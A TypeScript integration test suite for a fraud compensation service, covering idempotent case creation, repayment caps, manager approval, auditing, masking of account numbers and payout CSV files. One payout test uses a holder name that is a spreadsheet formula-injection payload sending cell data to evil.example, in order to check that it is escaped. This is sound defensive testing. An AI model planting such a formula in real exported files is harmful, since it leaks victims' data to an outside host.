// Goal: support pays a victim back exactly once, never more than a charge took, large sums need a
// manager who is not the requester, every state change is audited, and payout files are produced
// once and re-downloaded byte for byte. Method: a real server on its own database, staff signed in
// over HTTP with real cookies; test data inserted directly (wallets, links, charges).
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TRPCClientError } from "@trpc/client";
import { startTestApp, type TestApp } from "./helpers/app.ts";
import { errorCodeOf, signedInAs } from "./helpers/staff.ts";
import { createStaff, fraudScenario, insertCharges, insertWallet, key, withClaim, victimAccount } from "./compensation-fixtures.ts";

let t: TestApp;
type Agent = Awaited<ReturnType<typeof signedInAs>>;
let support: Agent;
let manager: Agent;
let analyst: Agent;
let admin: Agent;
let manager2: Awaited<ReturnType<typeof createStaff>>;
const REASON = "Victim reported withdrawals they did not make";

beforeAll(async () => {
  t = await startTestApp();
  [support, manager, analyst, admin] = await Promise.all([
    signedInAs(t.baseUrl, "SUPPORT"),
    signedInAs(t.baseUrl, "MANAGER"),
    signedInAs(t.baseUrl, "ANALYST"),
    signedInAs(t.baseUrl, "ADMIN"),
  ]);
  manager2 = await createStaff(t.db.prisma, t.baseUrl, "MANAGER");
});
afterAll(async () => {
  await t.close();
});

async function errorOf(p: Promise<unknown>): Promise<{ code: string; message: string; httpStatus: number; details?: Record<string, unknown> }> {
  try {
    await p;
  } catch (err) {
    if (err instanceof TRPCClientError) {
      const data = err.data as { code: string; httpStatus: number; details?: Record<string, unknown> };
      return { code: data.code, message: err.message, httpStatus: data.httpStatus, details: data.details };
    }
    throw err;
  }
  throw new Error("expected the call to fail");
}

async function auditFor(caseId: string) {
  return t.db.prisma.auditEvent.findMany({ where: { targetType: "case", targetId: caseId }, orderBy: { id: "asc" } });
}

describe("creating a case", () => {
  it("creates a requested case for the victim of the charges, audited with actor and reason", async () => {
    const s = await fraudScenario(t.db.prisma, [30_000, 20_000]);
    const res = await support.trpc.compensation.create.mutate(withClaim({
      idempotencyKey: key(),
      holderName: s.victim.holderName,
      lines: s.chargeIds.map((chargeId) => ({ chargeId, amountYen: 20_000 })),
      reason: REASON,
    }));
    expect(res.replayed).toBe(false);
    const c = await support.trpc.compensation.get.query({ caseId: res.caseId });
    expect(c.state).toBe("REQUESTED");
    expect(c.totalYen).toBe(40_000);
    expect(c.bankCode).toBe("0125");
    expect(c.accountNumberMasked).toBe("****" + s.victim.accountNumber.slice(-3));
    expect(c.requestedByEmail).toBe(support.user.email);
    // In the order the money was taken.
    expect(c.lines.map((l) => [l.chargeId, l.amountYen, l.owedYen])).toEqual([
      [s.chargeIds[0], 20_000, 10_000],
      [s.chargeIds[1], 20_000, 0],
    ]);
    expect(c.victim?.owedYen).toBe(10_000);
    expect(c.victim?.pendingYen).toBe(40_000);
    const audit = await auditFor(res.caseId);
    expect(audit.map((a) => [a.action, a.actorEmail, a.reason])).toEqual([["compensation.create", support.user.email, REASON]]);
    // Never the full account number outside the payout file.
    expect(JSON.stringify(c)).not.toContain(s.victim.accountNumber);
    expect(JSON.stringify(audit, (_k, v) => (typeof v === "bigint" ? String(v) : v))).not.toContain(s.victim.accountNumber);
  });

  it("same key and same content returns the same case (a double click or a retry), in any line order", async () => {
    const s = await fraudScenario(t.db.prisma, [10_000, 5_000]);
    const k = key();
    const lines = s.chargeIds.map((chargeId) => ({ chargeId, amountYen: 5_000 }));
    const first = await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: k, holderName: s.victim.holderName, lines, reason: REASON }));
    const again = await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: k, holderName: s.victim.holderName, lines: [...lines].reverse(), reason: REASON }));
    expect(again).toEqual({ caseId: first.caseId, replayed: true });
    expect(await t.db.prisma.compensationCase.count({ where: { idempotencyKey: k } })).toBe(1);
    expect(await t.db.prisma.compensationLine.count({ where: { chargeId: { in: s.chargeIds } } })).toBe(2);
  });

  it("simultaneous double submits with one key create one case", async () => {
    const s = await fraudScenario(t.db.prisma, [40_000]);
    const input = { idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 40_000 }], reason: REASON };
    const results = await Promise.all(Array.from({ length: 6 }, () => support.trpc.compensation.create.mutate(withClaim(input))));
    expect(new Set(results.map((r) => r.caseId)).size).toBe(1);
    expect(results.filter((r) => !r.replayed)).toHaveLength(1);
  });

  it("same key with different content is refused with 409 and points at the existing case", async () => {
    const s = await fraudScenario(t.db.prisma, [10_000]);
    const k = key();
    const base = { idempotencyKey: k, holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 4_000 }], reason: REASON };
    const first = await support.trpc.compensation.create.mutate(withClaim(base));
    const e = await errorOf(support.trpc.compensation.create.mutate(withClaim({ ...base, lines: [{ chargeId: s.chargeIds[0], amountYen: 5_000 }] })));
    expect(e.code).toBe("IDEMPOTENCY_KEY_REUSED");
    expect(e.httpStatus).toBe(409);
    expect(e.details?.caseId).toBe(first.caseId);
    expect((await errorOf(support.trpc.compensation.create.mutate(withClaim({ ...base, reason: "A different reason entirely" })))).code).toBe("IDEMPOTENCY_KEY_REUSED");
  });

  it("same key with different charges at the same moment: one case, the other refused, never a 500", async () => {
    const a = await fraudScenario(t.db.prisma, [10_000]);
    const b = await fraudScenario(t.db.prisma, [10_000]);
    const k = key();
    const results = await Promise.allSettled([
      support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: k, holderName: a.victim.holderName, lines: [{ chargeId: a.chargeIds[0], amountYen: 10_000 }], reason: REASON })),
      manager.trpc.compensation.create.mutate(withClaim({ idempotencyKey: k, holderName: b.victim.holderName, lines: [{ chargeId: b.chargeIds[0], amountYen: 10_000 }], reason: REASON })),
    ]);
    expect(results.filter((r) => r.status === "fulfilled")).toHaveLength(1);
    const rejected = results.find((r) => r.status === "rejected") as PromiseRejectedResult;
    expect((rejected.reason as TRPCClientError<never>).data).toMatchObject({ code: "IDEMPOTENCY_KEY_REUSED", httpStatus: 409 });
  });

  it("refuses to pay back more than a charge took, saying how much is left", async () => {
    const s = await fraudScenario(t.db.prisma, [50_000]);
    const over = await errorOf(
      support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 50_001 }], reason: REASON })),
    );
    expect(over).toMatchObject({ code: "COMPENSATION_EXCEEDS_CHARGE", httpStatus: 409, details: { remainingYen: 50_000, requestedYen: 50_001 } });
    expect(over.message).toContain("¥50,000");

    const first = await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 30_000 }], reason: REASON }));
    const second = await errorOf(
      manager.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 25_000 }], reason: REASON })),
    );
    expect(second).toMatchObject({ code: "COMPENSATION_EXCEEDS_CHARGE", httpStatus: 409, details: { remainingYen: 20_000 } });
    expect(second.message).toMatch(/only ¥20,000 left.*other cases already cover ¥30,000/);
    // The rest can still be requested, exactly.
    await manager.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 20_000 }], reason: REASON }));
    const full = await errorOf(support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 1 }], reason: REASON })));
    expect(full.message).toMatch(/nothing left to pay back/);
    // A cancelled case frees its amount again.
    await support.trpc.compensation.cancel.mutate({ caseId: first.caseId, reason: "Entered twice by mistake" });
    await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 30_000 }], reason: REASON }));
  });

  it("the database itself refuses a line beyond the charge, even written behind the service's back", async () => {
    const s = await fraudScenario(t.db.prisma, [10_000]);
    const { caseId } = await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 10_000 }], reason: REASON }));
    const other = await t.db.pool.query(`INSERT INTO compensation_case (id, idempotency_key, request_hash, bank_code, branch_code, account_number, holder_name, total_yen, reason, requested_by_id)
      SELECT gen_random_uuid(), 'raw-' || gen_random_uuid(), repeat('0', 64), bank_code, branch_code, account_number, holder_name, 1, 'raw insert', requested_by_id FROM compensation_case WHERE id = $1 RETURNING id`, [caseId]);
    await expect(t.db.pool.query(`INSERT INTO compensation_line (case_id, charge_id, amount_yen) VALUES ($1, $2, 1)`, [other.rows[0].id, s.chargeIds[0]])).rejects.toThrow(/more than the charge/);
    await expect(t.db.pool.query(`UPDATE compensation_line SET amount_yen = 0 WHERE case_id = $1`, [caseId])).rejects.toThrow(/amount_positive/);
    await expect(t.db.pool.query(`UPDATE compensation_case SET state = 'PAID' WHERE id = $1`, [caseId])).rejects.toThrow(/paid_in_batch/);
  });

  it("refuses charges of wallets that are not fraudulent, and charges of another victim", async () => {
    const honest = await fraudScenario(t.db.prisma, [10_000], { wallet: { riskScore: 59 } });
    const cleared = await fraudScenario(t.db.prisma, [10_000], { wallet: { riskScore: 95, reviewLabel: "LEGITIMATE" } });
    const confirmed = await fraudScenario(t.db.prisma, [10_000], { wallet: { riskScore: 10, reviewLabel: "CONFIRMED_FRAUD" } });
    for (const s of [honest, cleared]) {
      const e = await errorOf(support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: "ヤマダ タロウ", lines: [{ chargeId: s.chargeIds[0], amountYen: 1_000 }], reason: REASON })));
      expect(e).toMatchObject({ code: "CHARGE_NOT_FRAUDULENT", httpStatus: 422 });
    }
    await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: "ヤマダ タロウ", lines: [{ chargeId: confirmed.chargeIds[0], amountYen: 1_000 }], reason: REASON }));

    const a = await fraudScenario(t.db.prisma, [10_000]);
    const b = await fraudScenario(t.db.prisma, [10_000]);
    const mixed = await errorOf(
      support.trpc.compensation.create.mutate(withClaim({
        idempotencyKey: key(),
        holderName: "ヤマダ タロウ",
        lines: [{ chargeId: a.chargeIds[0], amountYen: 1_000 }, { chargeId: b.chargeIds[0], amountYen: 1_000 }],
        reason: REASON,
      })),
    );
    expect(mixed).toMatchObject({ code: "CHARGE_NOT_FOR_VICTIM", httpStatus: 422 });
    expect(mixed.message).not.toContain(b.victim.accountNumber);
    expect((await errorOf(support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: "x", lines: [{ chargeId: "no-such-charge", amountYen: 1 }], reason: REASON })))).code).toBe("CHARGE_NOT_FOUND");
    expect((await errorOf(support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: "x", lines: [{ chargeId: a.chargeIds[0], amountYen: 0 }], reason: REASON })))).code).toBe("VALIDATION_FAILED");
    expect((await errorOf(support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: "x", lines: [{ chargeId: a.chargeIds[0], amountYen: 1 }], reason: "no" })))).code).toBe("VALIDATION_FAILED");
  });
});

describe("approving, rejecting and cancelling", () => {
  async function newCase(agent: { trpc: Agent["trpc"] }, amountYen: number) {
    const s = await fraudScenario(t.db.prisma, [amountYen]);
    const { caseId } = await agent.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen }], reason: REASON }));
    return caseId;
  }

  it("below the threshold the requesting support agent approves their own case", async () => {
    const caseId = await newCase(support, 99_999);
    const c = await support.trpc.compensation.get.query({ caseId });
    expect(c.needsManager).toBe(false);
    expect(c.actions.approve).toBe(true);
    await support.trpc.compensation.approve.mutate({ caseId, reason: "Checked the bank statement" });
    const after = await support.trpc.compensation.get.query({ caseId });
    expect(after.state).toBe("APPROVED");
    expect(after.decidedByEmail).toBe(support.user.email);
    expect(after.history.map((h) => [h.action, h.actorEmail, h.reason])).toEqual([
      ["compensation.create", support.user.email, REASON],
      ["compensation.approve", support.user.email, "Checked the bank statement"],
    ]);
  });

  it("at the threshold support cannot approve: a manager must, and not the one who requested it", async () => {
    const caseId = await newCase(support, 100_000);
    const c = await support.trpc.compensation.get.query({ caseId });
    expect(c.needsManager).toBe(true);
    expect(c.actions.approve).toBe(false);
    expect(c.actions.whyNotApprove).toMatch(/manager/);
    expect(await errorOf(support.trpc.compensation.approve.mutate({ caseId, reason: "Looks right to me" }))).toMatchObject({ code: "MANAGER_APPROVAL_REQUIRED", httpStatus: 403 });
    expect(await errorOf(support.trpc.compensation.reject.mutate({ caseId, reason: "Looks wrong to me" }))).toMatchObject({ code: "MANAGER_APPROVAL_REQUIRED" });
    await manager.trpc.compensation.approve.mutate({ caseId, reason: "Evidence reviewed: holder name mismatch" });
    expect((await manager.trpc.compensation.get.query({ caseId })).state).toBe("APPROVED");

    const own = await newCase(manager, 150_000);
    expect((await manager.trpc.compensation.get.query({ caseId: own })).actions.approve).toBe(false);
    expect(await errorOf(manager.trpc.compensation.approve.mutate({ caseId: own, reason: "Approving my own" }))).toMatchObject({ code: "SELF_APPROVAL_NOT_ALLOWED", httpStatus: 403 });
    await manager2.trpc.compensation.approve.mutate({ caseId: own, reason: "Second pair of eyes" });
    const approved = await manager.trpc.compensation.get.query({ caseId: own });
    expect(approved.state).toBe("APPROVED");
    expect(approved.decidedByEmail).toBe(manager2.user.email);
  });

  it("the threshold is the admin setting", async () => {
    await admin.trpc.admin.updateSetting.mutate({ key: "compensation.approvalThresholdYen", value: 20_000, reason: "Tighter control during the incident" });
    try {
      const caseId = await newCase(support, 25_000);
      expect(await errorCodeOf(support.trpc.compensation.approve.mutate({ caseId, reason: "Small enough?" }))).toBe("MANAGER_APPROVAL_REQUIRED");
      const queue = await manager.trpc.compensation.approvalQueue.query();
      expect(queue.thresholdYen).toBe(20_000);
      expect(queue.cases.map((c) => c.id)).toContain(caseId);
    } finally {
      // Raising it back takes a second administrator (#12).
      const asked = await admin.trpc.admin.updateSetting.mutate({ key: "compensation.approvalThresholdYen", value: 100_000, reason: "Back to the default" });
      expect(asked.pendingRequestId).toBeTruthy();
      expect((await manager.trpc.compensation.approvalQueue.query()).thresholdYen).toBe(20_000);
      const admin2 = await createStaff(t.db.prisma, t.baseUrl, "ADMIN");
      await admin2.trpc.approvals.approve.mutate({ requestId: asked.pendingRequestId!, reason: "The incident is over" });
      expect((await manager.trpc.compensation.approvalQueue.query()).thresholdYen).toBe(100_000);
    }
  });

  it("rejects and cancels with a reason, audited; final states stay final", async () => {
    const rejected = await newCase(support, 120_000);
    await manager.trpc.compensation.reject.mutate({ caseId: rejected, reason: "The victim's own wallet made these" });
    const cancelledRequested = await newCase(support, 1_000);
    await support.trpc.compensation.cancel.mutate({ caseId: cancelledRequested, reason: "Duplicate of another case" });
    const cancelledApproved = await newCase(support, 1_000);
    await support.trpc.compensation.approve.mutate({ caseId: cancelledApproved, reason: "Small and clear" });
    await manager.trpc.compensation.cancel.mutate({ caseId: cancelledApproved, reason: "Bank refunded the victim directly" });

    for (const [caseId, state, action] of [
      [rejected, "REJECTED", "compensation.reject"],
      [cancelledRequested, "CANCELLED", "compensation.cancel"],
      [cancelledApproved, "CANCELLED", "compensation.cancel"],
    ] as const) {
      const c = await manager.trpc.compensation.get.query({ caseId });
      expect(c.state).toBe(state);
      const audit = await auditFor(caseId);
      expect(audit.at(-1)).toMatchObject({ action, before: { state: expect.any(String) }, after: { state } });
      expect(audit.at(-1)?.reason).toBeTruthy();
      for (const call of [manager2.trpc.compensation.approve, manager2.trpc.compensation.reject, manager2.trpc.compensation.cancel]) {
        expect(await errorOf(call.mutate({ caseId, reason: "Try again please" }))).toMatchObject({ code: "INVALID_TRANSITION", httpStatus: 409 });
      }
    }
    // An approved case cannot be rejected (rejecting answers a request).
    const approved = await newCase(support, 2_000);
    await support.trpc.compensation.approve.mutate({ caseId: approved, reason: "Small and clear" });
    expect(await errorCodeOf(support.trpc.compensation.reject.mutate({ caseId: approved, reason: "Changed my mind" }))).toBe("INVALID_TRANSITION");
    expect(await errorCodeOf(support.trpc.compensation.approve.mutate({ caseId: approved, reason: "Approve twice" }))).toBe("INVALID_TRANSITION");
    expect(await errorCodeOf(support.trpc.compensation.approve.mutate({ caseId: "00000000-0000-4000-8000-000000000000", reason: "No such case" }))).toBe("CASE_NOT_FOUND");
  });

  it("refuses roles that do not handle compensation", async () => {
    const s = await fraudScenario(t.db.prisma, [5_000]);
    const input = { idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 5_000 }], reason: REASON };
    expect(await errorCodeOf(analyst.trpc.compensation.create.mutate(withClaim(input)))).toBe("FORBIDDEN");
    expect(await errorCodeOf(admin.trpc.compensation.create.mutate(withClaim(input)))).toBe("FORBIDDEN");
    const { caseId } = await support.trpc.compensation.create.mutate(withClaim(input));
    expect(await errorCodeOf(admin.trpc.compensation.approve.mutate({ caseId, reason: "Admin approving" }))).toBe("FORBIDDEN");
    expect(await errorCodeOf(analyst.trpc.compensation.cancel.mutate({ caseId, reason: "Analyst cancelling" }))).toBe("FORBIDDEN");
    expect(await errorCodeOf(analyst.trpc.compensation.list.query({}))).toBe("FORBIDDEN");
    expect(await errorCodeOf(support.trpc.compensation.approvalQueue.query())).toBe("FORBIDDEN");
    expect(await errorCodeOf(support.trpc.compensation.createPayoutBatch.mutate({ caseIds: [caseId], reason: "Support paying out" }))).toBe("FORBIDDEN");
    expect(await errorCodeOf(admin.trpc.compensation.downloadBatch.query({ batchId: caseId }))).toBe("FORBIDDEN");
    expect(await errorCodeOf(analyst.trpc.compensation.victimSearch.query({ bankCode: "0125", accountNumber: s.victim.accountNumber }))).toBe("FORBIDDEN");
    expect((await analyst.trpc.compensation.report.query()).total).toBeTruthy();
    expect((await t.db.prisma.compensationCase.findUnique({ where: { id: caseId } }))?.state).toBe("REQUESTED");
    expect(await t.db.prisma.auditEvent.count({ where: { action: "access.denied", targetId: "compensation.approve" } })).toBeGreaterThan(0);
  });
});

describe("payout batches", () => {
  async function approvedCase(amountYen: number, holderName = "ヤマダ タロウ") {
    const walletId = await insertWallet(t.db.prisma);
    const victim = victimAccount("0125", holderName);
    const [chargeId] = await insertCharges(t.db.prisma, walletId, victim, [amountYen]);
    const { caseId } = await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName, lines: [{ chargeId, amountYen }], reason: REASON }));
    await support.trpc.compensation.approve.mutate({ caseId, reason: "Small and clear" });
    return { caseId, victim };
  }

  it("pays approved cases once, stores the file, and re-downloads it byte for byte", async () => {
    const a = await approvedCase(12_000);
    const b = await approvedCase(8_000, 'タナカ "ハナコ", 株');
    const requested = (await fraudScenario(t.db.prisma, [1_000])).chargeIds[0];
    const { caseId: notApproved } = await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: "x y", lines: [{ chargeId: requested, amountYen: 1_000 }], reason: REASON }));

    const refused = await errorOf(manager.trpc.compensation.createPayoutBatch.mutate({ caseIds: [a.caseId, notApproved], reason: "Weekly payout run" }));
    expect(refused).toMatchObject({ code: "CASES_NOT_PAYABLE", httpStatus: 409, details: { caseIds: [notApproved] } });
    expect((await manager.trpc.compensation.get.query({ caseId: a.caseId })).state).toBe("APPROVED"); // nothing half-done

    const payable = await manager.trpc.compensation.payableCases.query();
    expect(payable.map((p) => p.id)).toEqual(expect.arrayContaining([a.caseId, b.caseId]));
    const batch = await manager.trpc.compensation.createPayoutBatch.mutate({ caseIds: [a.caseId, b.caseId], reason: "Weekly payout run" });
    expect(batch).toMatchObject({ caseCount: 2, totalYen: 20_000 });
    // In the batch, not yet paid: PAID waits for the bank's result (#18, test/compensation.ledger.test.ts).
    for (const c of [a, b]) {
      const got = await manager.trpc.compensation.get.query({ caseId: c.caseId });
      expect(got.state).toBe("APPROVED");
      expect(got.payoutBatch?.id).toBe(batch.batchId);
      expect(got.history.at(-1)).toMatchObject({ action: "compensation.batchCase", reason: "Weekly payout run", actorEmail: manager.user.email });
    }
    // A case can be in one batch only.
    expect(await errorOf(manager2.trpc.compensation.createPayoutBatch.mutate({ caseIds: [a.caseId], reason: "Pay it again" }))).toMatchObject({ code: "CASES_NOT_PAYABLE" });
    expect(await errorCodeOf(manager.trpc.compensation.cancel.mutate({ caseId: a.caseId, reason: "Too late to cancel" }))).toBe("INVALID_TRANSITION");

    const first = await manager.trpc.compensation.downloadBatch.query({ batchId: batch.batchId });
    const second = await manager2.trpc.compensation.downloadBatch.query({ batchId: batch.batchId });
    expect(Buffer.from(second.csv, "utf8").equals(Buffer.from(first.csv, "utf8"))).toBe(true);
    expect(createHash("sha256").update(first.csv, "utf8").digest("hex")).toBe(first.sha256);
    // UTF-8 with a BOM (Excel on Japanese Windows needs it to read the katakana), named in JST.
    const bytes = Buffer.from(first.csv, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toContain("ヤマダ タロウ");
    expect(first.fileName).toBe(batch.fileName);
    expect(first.fileName).toMatch(new RegExp(`^payout-batch-${batch.batchId.slice(0, 8)}-\\d{8}-\\d{4}JST\\.csv$`));
    const lines = first.csv.split("\r\n");
    expect(lines[0]).toBe("\uFEFFbank_code,branch_code,account_number_masked,account_number,holder_name,amount_yen,case_ids");
    expect(lines).toHaveLength(4); // header, two rows, and the empty string after the final CRLF
    expect(first.csv).toContain(`0125,100,****${a.victim.accountNumber.slice(-3)},${a.victim.accountNumber},ヤマダ タロウ,12000,${a.caseId}`);
    expect(first.csv).toContain(`"タナカ ""ハナコ"", 株",8000,${b.caseId}`);
    // The listing shows what each batch contains, masked.
    const listed = (await manager.trpc.compensation.batches.query()).find((x) => x.id === batch.batchId)!;
    expect(listed.cases.map((c) => c.id).sort()).toEqual([a.caseId, b.caseId].sort());
    expect(JSON.stringify(listed)).not.toContain(a.victim.accountNumber);
    expect(await t.db.prisma.auditEvent.count({ where: { action: "compensation.downloadBatch", targetId: batch.batchId } })).toBe(2);
  });

  it("writes a formula-looking holder name into the payout file as text (#12 defect 2)", async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const c = await approvedCase(3_000, evil);
    const batch = await manager.trpc.compensation.createPayoutBatch.mutate({ caseIds: [c.caseId], reason: "Payout run" });
    const file = await manager.trpc.compensation.downloadBatch.query({ batchId: batch.batchId });
    expect(file.csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",3000,${c.caseId}\r\n`);
    expect(file.csv).not.toMatch(/,"?=HYPERLINK/);
  });

  it("two managers batching the same cases at the same moment: one batch gets them, never both", async () => {
    const cases = await Promise.all([approvedCase(1_000), approvedCase(2_000), approvedCase(3_000)]);
    const ids = cases.map((c) => c.caseId);
    const results = await Promise.allSettled([
      manager.trpc.compensation.createPayoutBatch.mutate({ caseIds: ids, reason: "Payout run A" }),
      manager2.trpc.compensation.createPayoutBatch.mutate({ caseIds: [...ids].reverse(), reason: "Payout run B" }),
      manager.trpc.compensation.createPayoutBatch.mutate({ caseIds: [ids[1]], reason: "Payout run C" }),
    ]);
    const ok = results.filter((r) => r.status === "fulfilled");
    expect(ok.length).toBeGreaterThanOrEqual(1);
    for (const r of results) if (r.status === "rejected") expect((r.reason as TRPCClientError<never>).data).toMatchObject({ code: "CASES_NOT_PAYABLE", httpStatus: 409 });
    // Whichever batch won (C alone can win first, leaving A and B refused), every batched case is in
    // exactly one stored file, and a case in no batch is in none.
    const after = await t.db.prisma.compensationCase.findMany({ where: { id: { in: ids } }, select: { id: true, payoutBatchId: true, state: true } });
    const files = await t.db.prisma.payoutBatch.findMany();
    for (const c of after) {
      expect(c.state).toBe("APPROVED"); // paid only when the bank settles its line
      expect(files.filter((f) => f.fileCsv.includes(c.id))).toHaveLength(c.payoutBatchId !== null ? 1 : 0);
    }
    expect(after.filter((c) => c.payoutBatchId !== null).length).toBe(ok.reduce((n, r) => n + (r as PromiseFulfilledResult<{ caseCount: number }>).value.caseCount, 0));
  });
});

describe("finding victims", () => {
  it("searches by bank and account number, answers masked, and opens the victim from a charge or a wallet", async () => {
    const walletA = await insertWallet(t.db.prisma);
    const walletB = await insertWallet(t.db.prisma, { riskScore: 20, reviewLabel: "CONFIRMED_FRAUD" });
    const honest = await insertWallet(t.db.prisma, { riskScore: 5 });
    const victim = victimAccount("0125", "スズキ イチロウ");
    const [a1, a2] = await insertCharges(t.db.prisma, walletA, victim, [100_000, 50_000]);
    const [b1] = await insertCharges(t.db.prisma, walletB, victim, [30_000]);
    await insertCharges(t.db.prisma, honest, victim, [7_000]); // the victim's own wallet, say
    const otherBranch = { ...victim, branchCode: "202" };
    await insertCharges(t.db.prisma, walletA, otherBranch, [9_000]);
    await support.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: victim.holderName, lines: [{ chargeId: a1, amountYen: 100_000 }], reason: REASON }));

    const found = await support.trpc.compensation.victimSearch.query({ bankCode: "0125", accountNumber: victim.accountNumber });
    expect(found.victims.map((v) => v.branchCode).sort()).toEqual(["100", "202"]);
    const main = found.victims.find((v) => v.branchCode === "100")!;
    expect(main).toMatchObject({ holderName: "スズキ イチロウ", chargeCount: 3, takenYen: 180_000, pendingYen: 100_000, paidYen: 0, owedYen: 80_000, otherChargeCount: 1, bankName: expect.any(String) });
    expect(JSON.stringify(found)).not.toContain(victim.accountNumber);
    const narrowed = await support.trpc.compensation.victimSearch.query({ bankCode: "0125", accountNumber: victim.accountNumber, branchCode: "202" });
    expect(narrowed.victims).toHaveLength(1);
    expect((await support.trpc.compensation.victimSearch.query({ bankCode: "0125", accountNumber: "0000001" })).victims).toEqual([]);

    const view = await support.trpc.compensation.victimForCharge.query({ chargeId: b1 });
    const byId = (x: [string, number], y: [string, number]) => x[0].localeCompare(y[0]);
    expect(view?.charges.map((c): [string, number] => [c.chargeId, c.owedYen]).sort(byId)).toEqual(([[a1, 0], [a2, 50_000], [b1, 30_000]] as Array<[string, number]>).sort(byId));
    expect(JSON.stringify(view)).not.toContain(victim.accountNumber);

    const ofWallet = await support.trpc.compensation.victimsOfAccount.query({ accountId: walletA });
    expect(ofWallet.wallet.fraudulent).toBe(true);
    expect(ofWallet.victims.map((v) => [v.branchCode, v.takenYen]).sort()).toEqual([["100", 150_000], ["202", 9_000]]);
    // A manager (who may read any account) is told the wallet is not fraudulent.
    const ofHonest = await manager.trpc.compensation.victimsOfAccount.query({ accountId: honest });
    expect(ofHonest).toMatchObject({ wallet: { fraudulent: false }, victims: [] });
    // Support may not read wallets outside compensation (#12 defect 5): a wallet that is not flagged
    // or confirmed fraud answers exactly like an id that does not exist, so ids cannot be probed.
    const refusedHonest = await errorOf(support.trpc.compensation.victimsOfAccount.query({ accountId: honest }));
    const refusedUnknown = await errorOf(support.trpc.compensation.victimsOfAccount.query({ accountId: "nope" }));
    expect(refusedHonest).toMatchObject({ code: "WALLET_NOT_FOUND", httpStatus: 404 });
    expect(refusedUnknown).toMatchObject({ code: "WALLET_NOT_FOUND", httpStatus: 404 });
    const honestWallet = await t.db.prisma.walletAccount.findUniqueOrThrow({ where: { id: honest } });
    for (const refused of [refusedHonest, refusedUnknown]) {
      expect(JSON.stringify(refused)).not.toContain(honestWallet.holderName);
      expect(JSON.stringify(refused)).not.toContain("riskScore");
    }
    expect(refusedHonest.message).toBe(refusedUnknown.message.replace("nope", honest));
  });

  it("lists cases by state with totals, and filters by bank and requester", async () => {
    const s = await fraudScenario(t.db.prisma, [7_000], { bankCode: "9900" });
    const { caseId } = await manager.trpc.compensation.create.mutate(withClaim({ idempotencyKey: key(), holderName: s.victim.holderName, lines: [{ chargeId: s.chargeIds[0], amountYen: 7_000 }], reason: REASON }));
    const list = await support.trpc.compensation.list.query({ bankCode: "9900", states: ["REQUESTED"] });
    expect(list.cases.map((c) => c.id)).toEqual([caseId]);
    expect(list.total).toEqual({ count: 1, totalYen: 7_000 });
    expect(list.stateTotals.REQUESTED).toEqual({ count: 1, totalYen: 7_000 });
    expect(list.cases[0]).toMatchObject({ bankCode: "9900", totalYen: 7_000, lineCount: 1, requestedByEmail: manager.user.email, needsManager: false });
    expect((await support.trpc.compensation.list.query({ bankCode: "9900", mine: true })).cases).toEqual([]);
    expect((await manager.trpc.compensation.list.query({ bankCode: "9900", mine: true })).cases).toHaveLength(1);
  });
});
